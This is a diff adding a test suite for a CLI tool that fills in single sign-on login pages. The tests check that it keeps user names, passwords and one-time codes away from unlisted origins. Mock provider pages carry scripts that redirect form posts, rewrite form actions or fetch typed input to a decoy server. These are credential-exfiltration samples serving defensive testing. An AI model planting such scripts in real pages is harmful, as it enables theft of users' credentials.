@@ -1,0 +1,276 @@
+import type { ServerResponse } from 'node:http';
+import { findWord } from '../../src/portal/credential-requests.ts';
+import { startDecoy } from '../faults/fault-proxy.ts';
+import { expect, test } from '../fixtures.ts';
+import type { Answer } from './serve-portal.ts';
+import { ASSERT, type Asked, ask, DONE, PERSON, serveProvider, withBody } from './serve-provider.ts';
+
+test.use({ sharesBrowser: true });
+
+const WORDS = ['--timeout', '30s'];
+
+const redirect =
+  (status: number, location: string) =>
+  (_: unknown, outgoing: ServerResponse): void =>
+    void outgoing.writeHead(status, { location }).end();
+
+/** A way in which a provider would take what is typed to another origin. */
+interface Away {
+  readonly files: (what: Asked, decoy: string) => Readonly<Record<string, Answer>>;
+  /** Whether it is the redirect that would. */
+  readonly redirects?: boolean;
+  /** That of which `npm test` sees the way. */
+  readonly seenWith?: readonly Asked[];
+}
+
+const SUBMIT_BY_SCRIPT = `form.onsubmit = (event) => {
+  event.preventDefault();
+  fetch('/take', { method: 'POST', body: new URLSearchParams(new FormData(form)) });
+};`;
+
+const ways: Readonly<Record<string, Away>> = {
+  'answers its form with 307': {
+    files: (what, decoy) => ({ '/': ask(what), '/take': redirect(307, `${decoy}/took`) }),
+    redirects: true,
+    seenWith: ['user name', 'password', 'one-time code'],
+  },
+  'answers its script with 308': {
+    files: (what, decoy) => ({ '/': ask(what, SUBMIT_BY_SCRIPT), '/take': redirect(308, `${decoy}/took`) }),
+    redirects: true,
+  },
+  'turns its form round when it is sent': {
+    files: (what, decoy) => ({ '/': ask(what, `form.onsubmit = () => { form.action = '${decoy}/took'; };`) }),
+    seenWith: ['user name', 'one-time code'],
+  },
+  'turns its button round when it is pressed': {
+    files: (what, decoy) => ({
+      '/': ask(what, `button.onclick = () => { button.formAction = '${decoy}/took'; };`),
+    }),
+  },
+  'sends it into a new tab': {
+    files: (what, decoy) => ({
+      '/': ask(what, `form.onsubmit = () => { form.action = '${decoy}/took'; form.target = '_blank'; };`),
+    }),
+  },
+  'sends it into a frame': {
+    files: (what, decoy) => ({
+      '/': `${ask(what, `form.onsubmit = () => { form.action = '${decoy}/took'; form.target = 'inner'; };`)}<iframe name="inner"></iframe>`,
+    }),
+  },
+  'tells it by script first': {
+    files: (what, decoy) => ({
+      '/': ask(
+        what,
+        `form.onsubmit = (event) => {
+          event.preventDefault();
+          fetch('${decoy}/took', { method: 'POST', body: input.value }).catch(() => {}).then(() => form.submit());
+        };`,
+      ),
+      '/take': ask(what),
+    }),
+    seenWith: ['user name', 'one-time code'],
+  },
+};
+
+for (const [how, { files, redirects = false, seenWith = [] }] of Object.entries(ways))
+  for (const what of ['user name', 'password', 'one-time code'] as const)
+    test(`a provider that asks for the ${what} and ${how} gets it to no origin that is not listed: exit 4, saying what went where`, {
+      tag: seenWith.includes(what) ? [] : '@extended',
+    }, async ({ startServer, runCommand }) => {
+      const server = await startServer();
+      await using decoy = await startDecoy();
+      await using provider = await serveProvider(server, files(what, decoy.url));
+      const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });
+
+      expect(decoy.heard, stderr).toEqual([]);
+      expect(code, stderr).toBe(4);
+      expect(stderr).toContain(
+        redirects
+          ? `the ${what} was given to ${provider.url}/take, which redirected it to ${decoy.url}/took, and it was not sent there`
+          : `${decoy.url}, which is not listed, and was stopped`,
+      );
+      // Of a user name that the page was kept from telling somebody else of, the page's own form may still tell the provider.
+      const isGiven = redirects || (what === 'user name' && how === 'tells it by script first');
+      expect(withBody(provider.heard)).toHaveLength(isGiven ? 1 : 0);
+    });
+
+for (const what of ['user name', 'password', 'one-time code'] as const)
+  test(`a provider that asks for the ${what} and breaks the connection is sent it once: exit 4, saying that it got no reply`, {
+    tag: what === 'user name' ? '@extended' : [],
+  }, async ({ startServer, runCommand }) => {
+    const server = await startServer();
+    await using provider = await serveProvider(server, {
+      '/': ask(what),
+      '/take': ({ socket }) => void socket.resetAndDestroy(),
+    });
+    const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });
+
+    expect(withBody(provider.heard), stderr).toHaveLength(1);
+    expect(code, stderr).toBe(4);
+    expect(stderr).toMatch(new RegExp(`the ${what} got no reply .*it is not submitted again`));
+  });
+
+test('a header that a script put the password into is taken along by no redirect: exit 4', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  await using decoy = await startDecoy();
+  const script = `form.onsubmit = (event) => {
+    event.preventDefault();
+    fetch('/take', { headers: { 'x-proof': input.value } });
+  };`;
+  await using provider = await serveProvider(server, {
+    '/': ask('password', script),
+    '/take': redirect(302, `${decoy.url}/took`),
+  });
+  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });
+
+  expect(decoy.heard, stderr).toEqual([]);
+  expect(code, stderr).toBe(4);
+  expect(stderr).toContain(`which redirected it to ${decoy.url}/took`);
+});
+
+test('a form whose script is late puts no one-time code into an address: the same code is sent once, and the key is made', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  const page = `<script src="/late.js" async></script>${ask('one-time code', '', 'action="/take"')}`;
+  await using provider = await serveProvider(server, {
+    '/': page,
+    '/late.js': (_, outgoing) =>
+      void setTimeout(
+        () =>
+          outgoing
+            .writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' })
+            .end("document.forms[0].method = 'post';"),
+        300,
+      ),
+    '/take': redirect(303, DONE),
+  });
+  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: ['--timeout', '60s'] });
+
+  expect(code, stderr).toBe(0);
+  expect(withBody(provider.heard)).toEqual([expect.stringMatching(/^POST \/take code=\d{6}$/)]);
+  expect(provider.heard.filter((line) => line.includes('?'))).toEqual([]);
+});
+
+test('a provider may ask often who it is, take the password at another listed origin, and send itself back by a form', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  await using decoy = await startDecoy();
+  const ASKING = `form.onsubmit = async (event) => {
+    event.preventDefault();
+    navigator.sendBeacon('${decoy.url}/telemetry', 'a page was shown');
+    await fetch('${decoy.url}/telemetry', { method: 'POST', body: input.value }).catch(() => {});
+    for (const path of ['/who', '/whose']) await fetch(path, { method: 'POST', body: JSON.stringify({ username: input.value }) });
+    form.submit();
+  };`;
+  await using second = await serveProvider(server, {
+    '/password': ask('password'),
+    '/take': (incoming, outgoing) => redirect(303, provider.url + ASSERT)(incoming, outgoing),
+  });
+  await using provider = await serveProvider(server, {
+    '/': ask('user name', ASKING),
+    '/take': redirect(303, `${second.url}/password?login_hint=${encodeURIComponent(PERSON.username)}`),
+  });
+  const env = { ...provider.env, OCTOPUS_SSO_ORIGINS: `${provider.url},${second.url}` };
+  const { code, stderr } = await runCommand('mint-key', { env, words: WORDS });
+
+  expect(code, stderr).toBe(0);
+  expect(withBody(provider.heard).map((line) => line.split(' ')[1])).toEqual(['/who', '/whose', '/take']);
+  expect(withBody(second.heard)).toEqual([`POST /take password=${PERSON.password}`]);
+  expect(decoy.heard.join('\n')).toContain('a page was shown');
+  expect(decoy.heard.join('\n')).not.toContain(PERSON.username);
+});
+
+test('where the user name was handed on in an address, that is said of the page where nothing was typed: exit 4', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  await using decoy = await startDecoy();
+  await using provider = await serveProvider(server, {
+    '/': ask('user name'),
+    '/take': redirect(303, `${decoy.url}/page?login_hint=${encodeURIComponent(PERSON.username)}`),
+  });
+  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });
+
+  expect(code, stderr).toBe(4);
+  expect(stderr).toContain(
+    `was sent to ${decoy.url}, which is not listed, and nothing was typed there, but the user name stands in its address`,
+  );
+  expect(decoy.heard.join('\n')).not.toContain('username=');
+});
+
+test('a form that leads to an origin that is not listed is not filled in, and that is said: exit 4', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  await using decoy = await startDecoy();
+  const page = ask('one-time code', `button.formAction = '${decoy.url}/took';`);
+  await using provider = await serveProvider(server, { '/': page });
+  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });
+
+  expect(code, stderr).toBe(4);
+  expect(stderr).toContain(
+    `the form of ${provider.url}/ sends what is typed to ${decoy.url}, which is not listed, and was not filled in`,
+  );
+  expect(decoy.heard).toEqual([]);
+});
+
+test('a page that sends the password while it is typed, and alters it, is not said to have sent nothing: exit 4', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  const script = `input.oninput = async () => {
+    const { value } = input;
+    input.value = value + '!';
+    await fetch('/take', { method: 'POST', body: value });
+    location = '/again';
+  };`;
+  await using provider = await serveProvider(server, {
+    '/': ask('password', script),
+    '/take': 'taken',
+    '/again': ask('password'),
+  });
+  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });
+
+  expect(withBody(provider.heard)).toEqual([`POST /take ${PERSON.password}`]);
+  expect(code, stderr).toBe(4);
+  expect(stderr).toMatch(/the password is asked for again .*it was submitted once/);
+});
+
+test('a user name and a code are known again where they stand by themselves, and not within something else', () => {
+  const found: Readonly<Record<string, readonly string[]>> = {
+    admin: [
+      'username=admin',
+      '{"user":"Admin"}',
+      'CORP\\admin',
+      'a=1&login_hint=admin',
+      '%22admin%22',
+      'admin',
+    ],
+    'jörg+1@example.com': [
+      'u=j%C3%B6rg%2B1%40example.com',
+      '{"u":"j\\u00f6rg+1@example.com"}',
+      'u=j%25C3%25B6rg%252B1%2540EXAMPLE.COM',
+    ],
+    'Jane Doe': ['name=Jane+Doe', 'name=Jane%20Doe', 'Jane Doe'],
+    'CORP\\jane': ['{"u":"CORP\\\\jane"}', 'u=CORP%5Cjane'],
+    '123456': ['code=123456', '{"code":123456}', '%22123456%22', 'a=1&code=123456&b=2', '123456'],
+  };
+  const missed: Readonly<Record<string, readonly string[]>> = {
+    admin: ['administrator', '/badmin', 'sysadmin=1'],
+    '123456': ['1234567', '0123456', 'at=1712345678', 'id=ab123456', '12345'],
+  };
+  for (const [word, texts] of Object.entries(found))
+    for (const text of texts) expect(findWord(word)(text), `${word} in ${text}`).toBe(true);
+  for (const [word, texts] of Object.entries(missed))
+    for (const text of texts) expect(findWord(word)(text), `${word} in ${text}`).toBe(false);
+});
